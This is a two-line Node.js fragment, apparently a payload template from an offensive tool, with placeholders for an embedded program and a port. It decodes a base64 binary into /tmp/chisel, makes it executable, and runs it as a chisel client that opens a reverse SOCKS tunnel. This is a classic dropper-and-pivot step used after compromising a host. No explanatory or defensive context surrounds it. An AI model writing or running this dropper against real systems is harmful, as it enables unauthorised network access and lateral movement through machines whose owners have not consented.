fs.writeFileSync('/tmp/chisel', Buffer.from('@PROGRAM@', 'base64'), { mode: 0o755 });
return execFileSync('/tmp/chisel', ['client', '127.0.0.1:@PORT@', 'R:socks']).toString();
